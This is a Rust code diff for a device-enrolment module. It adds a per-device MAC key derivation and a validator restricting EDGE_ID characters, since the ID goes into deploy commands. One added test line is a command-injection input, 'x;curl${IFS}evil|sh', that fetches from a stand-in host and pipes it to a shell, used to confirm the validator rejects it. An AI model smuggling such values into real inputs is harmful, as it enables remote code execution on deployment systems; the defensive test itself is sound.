@@ -123,6 +123,24 @@ pub fn admitted_secret(device_key: &[u8; 32], token: u64, edge_id: &str) -> Secr
     Secret(*h.finalize().as_bytes())
 }
 
+/// The key a device's requests that do not describe it are sealed with
+/// (and their replies): the token's key (with the server's AGENT_SECRET
+/// mixed in, as polls do) and the device's own key, so that only the
+/// device that first described itself can ask about its entry, even among
+/// devices holding the same token.
+pub fn device_mac_key(fleet_key: &Secret, device_key: &[u8; 32]) -> Secret {
+    let mut h = blake3::Hasher::new_derive_key("tern v1 enrolment device key");
+    h.update(&fleet_key.0);
+    h.update(device_key);
+    Secret(*h.finalize().as_bytes())
+}
+
+/// Whether an EDGE_ID is one the agent itself would take from EDGE_ID:
+/// letters, digits, `-`, `_`, `.` and `:` (it goes into deploy commands).
+pub fn edge_id_ok(id: &str) -> bool {
+    !id.is_empty() && id.len() <= MAX_EDGE_ID && id.chars().all(|c| c.is_ascii_alphanumeric() || "-_.:".contains(c))
+}
+
 /// What a device says about itself (first request of a run).
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct Description {
@@ -202,6 +220,9 @@ impl EnrolRequest {
         let edge_id = clean("EDGE_ID", &m.edge_id, MAX_EDGE_ID)?;
         if edge_id.is_empty() && (m.device == 0 || !m.device_key.is_empty()) {
             return Err(EnrolError::Field("EDGE_ID is empty".into()));
+        }
+        if !edge_id.is_empty() && !edge_id_ok(&edge_id) {
+            return Err(EnrolError::Field("EDGE_ID: use up to 128 letters, digits, '-', '_', '.' or ':'".into()));
         }
         if m.device > i64::MAX as u64 {
             return Err(EnrolError::Field("the device number is out of range".into()));
@@ -378,6 +399,7 @@ mod tests {
         assert!(EnrolRequest::decode(&described_by_number).is_err(), "a description comes with its EDGE_ID");
         assert!(EnrolRequest::decode(&req(&"x".repeat(200), vec![], vec![])).is_err());
         assert!(EnrolRequest::decode(&req("a\nb", vec![], vec![])).is_err());
+        assert!(EnrolRequest::decode(&req("x;curl${IFS}evil|sh", vec![], vec![])).is_err(), "shell in an EDGE_ID");
         assert!(EnrolRequest::decode(&req("a", vec![1; 31], vec![])).is_err());
         assert!(EnrolRequest::decode(&req("a", vec![1; 32], vec!["t".into(); 17])).is_err());
         assert!(EnrolRequest::decode(&req("a", vec![1; 32], vec!["t".repeat(65)])).is_err());
